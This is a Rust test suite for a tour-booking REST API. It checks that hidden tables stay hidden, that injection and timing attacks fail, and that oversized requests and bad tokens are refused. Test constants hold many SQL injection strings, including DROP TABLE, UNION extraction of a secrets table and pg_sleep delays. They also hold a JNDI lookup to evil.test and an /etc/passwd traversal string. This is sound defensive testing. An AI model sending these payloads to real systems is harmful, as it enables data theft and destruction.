//! Hostile requests: T-Q01 to T-Q22, T-R24, T-D03 and T-D10. `permissions.rs` tests access.

use std::time::{Duration, Instant};

use serde_json::{Value, json};

use serendib_db::testing::steps;
use serendib_domain::tables;

use crate::fixture::TestApp;
use crate::permissions::MatrixCast;
use crate::program::TestResponse;
use crate::tokens;

/// Reads of an existing row, and as many of a missing one: T-Q22.
const LOOKS: usize = 2_000;
const JSON: (&str, &str) = ("content-type", "application/json");

/// Appends an encoded value.
fn with(before: &str, value: &str) -> String {
    let encoded: String = value.bytes().map(|byte| format!("%{byte:02X}")).collect();
    format!("{before}{encoded}")
}

fn status_and_code(answer: &TestResponse) -> (u16, String) {
    (answer.status, answer.code())
}

/// T-Q01, T-Q16, T-Q17, T-Q19.
#[tokio::test(flavor = "multi_thread")]
async fn what_is_not_exposed_is_not_there() {
    let world = TestApp::empty().await;
    for table in ["booking_requests", "payment_logs", "guide_applications", "profiles", "contact_messages"] {
        assert_eq!(status_and_code(&world.get(&format!("/rest/v1/{table}")).await), (401, "42501".into()), "{table}");
    }
    for table in [
        "auth.users",
        "users",
        "jobs",
        "mails",
        "server_keys",
        "sqlite_master",
        "pg_catalog.pg_user",
        "information_schema.tables",
    ] {
        assert_eq!(
            status_and_code(&world.get(&format!("/rest/v1/{table}")).await),
            (404, "PGRST205".into()),
            "{table}"
        );
    }
    for function in ["pg_sleep", "load_extension", "pg_read_file", "version"] {
        assert_eq!(
            status_and_code(&world.get(&format!("/rest/v1/rpc/{function}?x=1")).await),
            (404, "PGRST202".into())
        );
    }
    for (method, header) in [("GET", "accept-profile"), ("POST", "content-profile")] {
        for schema in ["auth", "storage", "pg_catalog"] {
            let answer = world.ask(method, "/rest/v1/contact_messages", &[(header, schema), JSON], "{}").await;
            assert_eq!(status_and_code(&answer), (406, "PGRST106".into()), "{schema}");
        }
    }
    let root = world.get("/rest/v1/").await.json();
    let paths: Vec<_> = root["paths"].as_object().unwrap().keys().cloned().collect();
    assert!(paths.contains(&"/packages".to_owned()), "{paths:?}");
    for hidden in ["/users", "/server_keys", "/jobs", "/mails"] {
        assert!(!paths.contains(&hidden.to_owned()), "{hidden}");
    }
}

/// T-Q03, T-Q04, T-Q05, T-Q06.
#[tokio::test(flavor = "multi_thread")]
async fn no_way_round_leads_to_a_hidden_row_or_column() {
    let world = TestApp::demo().await;
    for question in [
        "packages?select=id,booking_requests(contact_email)",
        "packages?select=id,x:booking_requests!inner(id)",
        "packages?select=id,package_owners(user_id)",
        "guides?select=id,guide_package_requests(*)",
        "guides?select=id,payment_logs!payment_logs_guide_id_fkey(amount)",
        "packages?select=id,package_guides(guides(booking_requests(contact_email)))",
        "guides?user_id=eq.00000000-0000-4000-8000-000000000000",
        "guides?or=(display_name.eq.x,not.and(rating.gt.1,user_id.not.is.null))",
        "guides?select=id&order=user_id",
        "packages?select=id,reviews(id)&reviews.user_id=not.is.null",
        "packages?select=id,reviews(id)&reviews.order=is_hidden",
        "reviews?select=who:user_id",
        "packages?select=id,...booking_requests(contact_email)",
        "packages?select=id,...guides(user_id)",
        "packages?select=id,who:package_guides(x:guides(user_id))",
        "packages?select=id,guides!package_guides!inner(user_id)",
        "packages?select=id,booking_requests()&booking_requests=not.is.null",
        "package_guides?select=guide_id,guides(id)&order=guides(user_id)",
        "profiles?is_admin=is.true",
        "booking_requests?contact_email=like.a*",
    ] {
        let (status, code) = status_and_code(&world.get(&format!("/rest/v1/{question}")).await);
        assert_eq!((status, code.as_str()), (401, "42501"), "{question}");
    }
    for question in [
        "guides?select=id,profiles(is_admin)",
        "guides?select=id,guide_applications(*)",
        "guides?select=id,users(email)",
        "packages?select=id,payment_logs(id)&payment_logs.amount=gt.1",
    ] {
        let (status, code) = status_and_code(&world.get(&format!("/rest/v1/{question}")).await);
        assert_eq!((status, code.as_str()), (400, "PGRST200"), "{question}");
    }
    let all = world.get("/rest/v1/guides?limit=1").await.json();
    assert!(all[0].get("user_id").is_none(), "{all}");
}

/// The sleep that an attack requests; a faster answer did not sleep.
const SLEEP: Duration = Duration::from_secs(5);

/// Attacks that broke other servers, each for every text parameter.
const ATTACKS: [&str; 22] = [
    "' OR '1'='1",
    "\" OR \"\"=\"",
    "1; DROP TABLE packages; --",
    "') UNION SELECT secret FROM server_keys --",
    "') UNION SELECT name, sql FROM sqlite_master --",
    "'; SELECT pg_sleep(5); --",
    "1 AND 1=(SELECT 1 FROM pg_sleep(5))",
    "' AND 1=randomblob(1000000000) --",
    "$1",
    "?1",
    ":name",
    "\\",
    "\\'",
    "%",
    "_",
    "NULL",
    "${jndi:ldap://evil.test/a}",
    "../../../../etc/passwd",
    "\u{2028}\u{202e}\u{feff}",
    "😀",
    "eq.",
    "(((((((((",
];

/// T-Q10, T-Q18.
#[tokio::test(flavor = "multi_thread")]
async fn text_is_data_wherever_it_stands() {
    let world = TestApp::demo().await;
    let before = world.get("/rest/v1/packages?select=id").await.body;
    for attack in ATTACKS {
        for place in [
            "/rest/v1/packages?title=eq.",
            "/rest/v1/packages?title=ilike.",
            "/rest/v1/packages?id=eq.",
            "/rest/v1/packages?id=in.(",
            "/rest/v1/packages?price=gt.",
            "/rest/v1/packages?select=",
            "/rest/v1/packages?select=id,alias:",
            "/rest/v1/packages?select=id,guides!",
            "/rest/v1/packages?order=",
            "/rest/v1/packages?or=",
            "/rest/v1/packages?title=fts(english).",
            "/rest/v1/packages?limit=",
            "/rest/v1/packages?offset=",
            "/rest/v1/packages?",
            "/rest/v1/",
            "/rest/v1/rpc/search_packages?q=",
            "/rest/v1/rpc/search_packages?location=",
            "/rest/v1/rpc/search_packages?price_min=",
            "/rest/v1/rpc/search_packages?date_from=",
            "/rest/v1/rpc/search_guides?q=",
            "/rest/v1/rpc/search_guides?language=",
            "/rest/v1/rpc/search_guides?place=",
            "/rest/v1/rpc/search_guides?stars_min=",
            "/rest/v1/rpc/search_guides?date_from=2027-03-04&date_to=",
            "/rest/v1/rpc/group_prices?people=2&packages=",
            "/rest/v1/rpc/soonest_starts?packages=",
            "/rest/v1/rpc/suggest_places?q=",
            "/rest/v1/rpc/suggest_searches?q=",
            "/rest/v1/rpc/destination_page?slug=",
            "/rest/v1/rpc/theme_page?slug=",
            "/packages/",
            "/guides/",
            "/destinations/",
            "/themes/",
            "/search?q=",
            "/cards/packages/",
        ] {
            let started = Instant::now();
            let answer = world.get(&with(place, attack)).await;
            assert!(answer.status < 500, "{place}{attack}: {answer:?}");
            assert!(started.elapsed() < SLEEP, "{place}{attack}");
            let text = String::from_utf8_lossy(&answer.body);
            assert!(!text.contains("\"t1\"") && !text.contains("near \""), "{place}{attack}: {text}");
        }
        if let Ok(value) = axum::http::HeaderValue::from_str(attack) {
            for header in ["prefer", "range", "accept", "accept-profile", "if-none-match", "apikey", "authorization"] {
                let answer =
                    world.ask("GET", "/rest/v1/packages?limit=1", &[(header, value.to_str().unwrap_or(""))], "").await;
                assert!(answer.status < 500, "{header}: {attack}");
            }
        }
    }
    assert_eq!(world.get("/rest/v1/packages?select=id").await.body, before);
}

/// Payloads of injection tools: ways out of a text, what follows, ways to end the statement.
fn injections() -> Vec<String> {
    const OUT: [&str; 10] = ["", "'", "\"", "')", "'))", "\")", "1", "1'", "1)", "%'"];
    const PAYLOADS: [&str; 14] = [
        " AND 1=1",
        " AND 1=2",
        " OR 1=1",
        " OR 'a'='a",
        " UNION ALL SELECT NULL,NULL",
        " UNION SELECT secret FROM server_keys",
        "; SELECT pg_sleep(5)",
        " AND 5=(SELECT 5 FROM pg_sleep(5))",
        " AND randomblob(500000000) IS NULL",
        " ORDER BY 99",
        "; DROP TABLE packages",
        "||(SELECT sqlite_version())||",
        " AND ascii(substr((SELECT secret FROM server_keys),1,1))>64",
        " AND 1=(SELECT count(*) FROM information_schema.tables)",
    ];
    const END: [&str; 3] = ["", " -- -", "/*"];
    OUT.iter()
        .flat_map(|out| PAYLOADS.iter().flat_map(move |payload| END.map(|end| format!("{out}{payload}{end}"))))
        .collect()
}

/// T-Q10.
#[tokio::test(flavor = "multi_thread")]
async fn four_hundred_ways_to_break_out_of_a_text_find_nothing_and_take_no_longer() {
    let world = TestApp::demo().await;
    let before = world.get("/rest/v1/packages?select=id").await.body;
    let payloads = injections();
    assert!(payloads.len() >= 400);
    for (number, payload) in payloads.iter().enumerate() {
        let started = Instant::now();
        let title = world.get(&with("/rest/v1/packages?select=id&title=eq.", payload)).await;
        assert_eq!((title.status, title.body.as_slice()), (200, b"[]".as_slice()), "{payload}");
        let place = ["or=(title.eq.", "select=", "order=", "price=gte.", "title=fts(", "id=in.("][number % 6];
        let answer = world.get(&with(&format!("/rest/v1/packages?{place}"), payload)).await;
        assert!(answer.status < 500, "{place}{payload}: {answer:?}");
        assert!(started.elapsed() < SLEEP, "{place}{payload}: {:?}", started.elapsed());
    }
    assert_eq!(world.get("/rest/v1/packages?select=id").await.body, before);
}

/// T-Q22.
#[tokio::test(flavor = "multi_thread")]
async fn how_long_an_answer_takes_does_not_tell_what_is_there() {
    let world = TestApp::demo().await;
    let strangers = "SELECT b.id, u.id FROM booking_requests b JOIN users u ON u.id <> b.user_id";
    let traveller = "WHERE NOT EXISTS (SELECT 1 FROM guides g WHERE g.user_id = u.id) ORDER BY b.id, u.id LIMIT 1";
    let guide = "JOIN guides g ON g.user_id = u.id AND g.id <> b.guide_id ORDER BY b.id, u.id LIMIT 1";
    look(&world, "a traveller", &format!("{strangers} {traveller}"), 0).await;
    look(&world, "a guide", &format!("{strangers} {guide}"), SECOND).await;
    world.run("UPDATE guides SET is_active = FALSE".to_owned(), Vec::new()).await;
    look(&world, "a suspended guide", &format!("{strangers} {guide}"), SECOND).await;
}

/// Steps to compare a row with a second column: a guide reads bookings as traveler and as guide.
const SECOND: u64 = 2;

/// Timing of a user's reads of a hidden booking and of a missing one; `sql` selects both ids.
async fn look(world: &TestApp, who: &str, sql: &str, more: u64) {
    let row = world.app.db.rows(sql, &[]).await.unwrap().remove(0);
    let token = tokens::person(row.uuid(1).unwrap());
    let ask = async |id: String| {
        let address = format!("/rest/v1/booking_requests?select=id&id=eq.{id}");
        let (before, started) = (steps(), Instant::now());
        let answer = world.ask("GET", &address, &[("authorization", &token)], "").await;
        assert_eq!((answer.status, answer.body.as_slice()), (200, b"[]".as_slice()));
        (steps() - before, started.elapsed())
    };
    let hidden = row.uuid(0).unwrap().to_string();
    let (mut there, mut not_there) = (Vec::new(), Vec::new());
    // In pairs, each first in turn, so that other load on the machine affects both.
    for look in 0..LOOKS {
        if look % 2 == 0 {
            there.push(ask(hidden.clone()).await);
        }
        not_there.push(ask(serendib_server::app::new_id().to_string()).await);
        if look % 2 == 1 {
            there.push(ask(hidden.clone()).await);
        }
    }
    let medians = |looks: &[(u64, Duration)]| {
        let mut work: Vec<_> = looks.iter().map(|look| look.0).collect();
        let mut time: Vec<_> = looks.iter().map(|look| look.1).collect();
        work.sort_unstable();
        time.sort_unstable();
        (work[LOOKS / 2], time[LOOKS / 2])
    };
    let (one, other) = (medians(&there), medians(&not_there));
    // The times are printed only; the test compares work, which load does not change.
    println!("{who}, medians of {LOOKS} looks each: {one:?} at what is there, {other:?} at what is not");
    let apart = one.0.abs_diff(other.0).saturating_sub(more);
    assert!(apart * 20 <= other.0, "{who}: {} steps beside {}", one.0, other.0);
}

/// T-R24.
#[tokio::test(flavor = "multi_thread")]
async fn nothing_is_written_without_a_filter_and_no_filter_reaches_hidden_rows() {
    let world = TestApp::empty().await;
    let cast = MatrixCast::new(&world).await;
    for table in tables::list().iter().filter(|table| table.exposed) {
        let (name, key) = (table.shape.name, table.shape.primary_key[0]);
        for role in ["visitor", "traveller", "guide", "owner", "admin"] {
            for (verb, question) in [("PATCH", ""), ("DELETE", ""), ("DELETE", &format!("?order={key}&limit=1"))] {
                let answer = cast.ask(&world, role, verb, name, question, "{}").await;
                let code = answer.code();
                assert!(["21000", "42501"].contains(&code.as_str()), "{role} {verb} {name}{question}: {answer:?}");
            }
        }
        let all = async || cast.ask(&world, "service", "GET", name, &format!("?order={key}"), "").await.json();
        let before = all().await;
        for role in ["traveller", "guide"] {
            let seen = cast.ask(&world, role, "GET", name, &format!("?select={key}"), "").await.json();
            let answer = cast.ask(&world, role, "DELETE", name, &format!("?{key}=not.is.null&select={key}"), "").await;
            if answer.status >= 300 {
                assert!((400..500).contains(&answer.status), "{role} {name}: {answer:?}");
                assert_eq!(all().await, before, "{role} {name}");
                continue;
            }
            let gone = answer.json();
            let (gone, seen) = (gone.as_array().unwrap(), seen.as_array().unwrap());
            assert!(gone.iter().all(|row| seen.contains(row)), "{role} {name}: {gone:?}");
            let left = all().await.as_array().unwrap().len();
            assert_eq!(left + gone.len(), before.as_array().unwrap().len(), "{role} {name}");
            cast.put_back(&world).await;
        }
    }
}

/// T-Q18.
#[tokio::test(flavor = "multi_thread")]
async fn odd_text_is_refused_or_stored_exactly() {
    let world = TestApp::empty().await;
    let nul = world.get("/rest/v1/packages?title=eq.a%00b").await;
    assert_eq!(status_and_code(&nul), (400, "22P05".into()));
    for bytes in ["%FF", "%C0%AF", "%ED%A0%80"] {
        assert_eq!(world.get(&format!("/rest/v1/packages?title=eq.{bytes}")).await.status, 400, "{bytes}");
    }
    let write = async |message: &str| {
        let body =
            json!({ "first_name": "A", "last_name": "B", "email": "a@example.lk", "subject": "C", "message": message });
        world.ask("POST", "/rest/v1/contact_messages", &[JSON], &body.to_string()).await
    };
    assert_eq!(status_and_code(&write("a\0b").await), (400, "22P05".into()));
    let odd = "ශ්‍රී 😀 \u{200f}abc e\u{301} ' \" \\ % _";
    assert_eq!(write(odd).await.status, 201);
    let stored = world
        .ask("GET", "/rest/v1/contact_messages?select=message", &[("authorization", &tokens::service())], "")
        .await;
    assert_eq!(stored.json(), json!([{ "message": odd }]));
}

/// T-Q08, T-Q09, T-Q11, T-Q12, T-Q13, T-Q14, T-Q15.
#[tokio::test(flavor = "multi_thread")]
async fn questions_without_measure_are_refused_cheaply() {
    let world = TestApp::demo().await;
    let nested = |open: &str, close: &str, depth: usize| open.repeat(depth) + "id.eq.1" + &close.repeat(depth);
    let ids = |count: usize| vec!["00000000-0000-4000-8000-000000000000"; count].join(",");
    let filters = vec!["price=gt.1"; 51].join("&");
    for (question, status, code) in [
        (format!("id=in.({})", ids(201)), 400, "PGRST100"),
        (filters, 400, "PGRST100"),
        (format!("or={}", nested("(and(", "))", 100)), 400, "PGRST100"),
        (format!("select={}id{}", "package_guides(guides(".repeat(20), "))".repeat(20)), 400, "PGRST100"),
        (format!("title=ilike.{}", "%25a".repeat(9)), 400, "PGRST100"),
        (format!("title=ilike.{}", "a".repeat(201)), 400, "PGRST100"),
        ("title=match.(a%2B)%2B$".to_owned(), 400, "PGRST100"),
        ("limit=1e12".to_owned(), 400, "PGRST100"),
        ("limit=-1".to_owned(), 416, "PGRST103"),
        ("offset=1e18".to_owned(), 400, "PGRST100"),
        (format!("select={}", "x".repeat(9_000)), 414, "PGRST100"),
    ] {
        // The fastest of three, because other load slows some.
        let mut quickest = Duration::MAX;
        for _ in 0..3 {
            let started = Instant::now();
            let answer = world.get(&format!("/rest/v1/packages?{question}")).await;
            quickest = quickest.min(started.elapsed());
            assert_eq!(status_and_code(&answer), (status, code.to_owned()), "{question}: {}", answer.json());
        }
        assert!(quickest < Duration::from_millis(500), "{question}");
    }
    for question in [
        "select=count()",
        "select=price.sum()",
        "select=id::regclass",
        "select=images-%3E0-%3E1-%3E2-%3E3-%3E4-%3E5-%3E6",
    ] {
        let answer = world.get(&format!("/rest/v1/packages?{question}")).await;
        assert_eq!(answer.status, 400, "{question}: {:?}", answer.json());
    }
    for media in ["application/geo+json", "application/vnd.pgrst.plan+json", "text/xml"] {
        let answer = world.ask("GET", "/rest/v1/packages", &[("accept", media)], "").await;
        assert_eq!(status_and_code(&answer), (406, "PGRST107".into()), "{media}");
    }
    let far = world.ask("GET", "/rest/v1/packages?offset=99999", &[("prefer", "count=exact")], "").await;
    assert_eq!(status_and_code(&far), (416, "PGRST103".into()));
}

/// T-Q20.
#[tokio::test(flavor = "multi_thread")]
async fn headers_that_lie_change_nothing_and_answers_to_a_token_are_nobody_elses() {
    let world = TestApp::demo().await;
    let plain = world.get("/rest/v1/packages?select=id&limit=3").await;
    let lies = [
        ("x-http-method-override", "DELETE"),
        ("x-forwarded-host", "evil.test"),
        ("x-forwarded-prefix", "/evil"),
        ("x-original-url", "/rest/v1/users"),
    ];
    let lied = world.ask("GET", "/rest/v1/packages?select=id&limit=3", &lies, "").await;
    assert_eq!((lied.status, &lied.body), (200, &plain.body));
    let page = world.ask("GET", "/", &[("host", "evil.test"), ("x-forwarded-host", "evil.test")], "").await;
    assert!(!String::from_utf8_lossy(&page.body).contains("evil.test"));
    assert_eq!(plain.header("cache-control"), "public, no-cache");
    let service = tokens::service();
    let own = world.ask("GET", "/rest/v1/packages?select=id&limit=3", &[("authorization", &service)], "").await;
    assert_eq!(own.header("cache-control"), "private, no-store");
    for name in ["authorization", "accept", "accept-profile", "prefer"] {
        assert!(own.header("vary").to_lowercase().contains(name), "{}", own.header("vary"));
    }
}

/// T-D03.
#[tokio::test(flavor = "multi_thread")]
async fn bodies_that_are_deep_wide_or_no_json_are_refused() {
    let world = TestApp::empty().await;
    let wide: serde_json::Map<String, Value> = (0..50_000).map(|number| (format!("k{number}"), Value::Null)).collect();
    for body in [
        "[".repeat(100_000),
        format!("{{\"a\":{}1{}}}", "[".repeat(65), "]".repeat(65)),
        Value::Object(wide).to_string(),
        "{\"message\":1e400}".to_owned(),
        "{\"message\":99999999999999999999}".to_owned(),
        format!("[{}{{}}]", "{},".repeat(300_000)),
        format!("{{\"message\":[{}1]}}", "1,".repeat(500_000)),
        "{\"message\":".to_owned(),
        "null".to_owned(),
        String::new(),
    ] {
        let answer = world.ask("POST", "/rest/v1/contact_messages", &[JSON], &body).await;
        assert_eq!(answer.status, 400, "{:.60}: {:?}", body, answer.json());
        let function = world.ask("POST", "/rest/v1/rpc/suggest_places", &[JSON], &body).await;
        assert!(function.status < 500, "{body:.60}");
    }
}

/// T-D10.
#[tokio::test(flavor = "multi_thread")]
async fn tokens_count_between_their_own_moments_and_public_keys_name_nobody() {
    let world = TestApp::empty().await;
    let now = world.app.clock.now().timestamp();
    let user = json!({ "role": "anon", "exp": now + 600 });
    let with = |name: &str, moment: i64| {
        let mut claims = user.clone();
        claims[name] = moment.into();
        tokens::signed(&claims)
    };
    for (token, message) in [
        (with("exp", now - 60), "JWT expired"),
        (with("nbf", now + 600), "JWT not yet valid"),
        (with("iat", now + 600), "JWT issued at future"),
    ] {
        let answer = world.ask("GET", "/rest/v1/packages", &[("authorization", &token)], "").await;
        assert_eq!(status_and_code(&answer), (401, "PGRST303".to_owned()), "{message}");
        assert_eq!(answer.json()["message"], message);
        let challenge = format!("Bearer error=\"invalid_token\", error_description=\"{message}\"");
        assert_eq!(answer.header("www-authenticate"), challenge);
    }
    // Clocks differ a little; and a new public key may stand in place of a token.
    for token in
        [with("exp", now - 10), with("nbf", now + 10), with("iat", now + 10), "Bearer sb_publishable_x".to_owned()]
    {
        let answer = world.ask("GET", "/rest/v1/packages", &[("authorization", &token)], "").await;
        assert_eq!(answer.status, 200, "{token}");
    }
    let secret = world.ask("GET", "/rest/v1/packages", &[("authorization", "Bearer sb_secret_x")], "").await;
    assert_eq!(status_and_code(&secret), (401, "PGRST301".to_owned()));
}
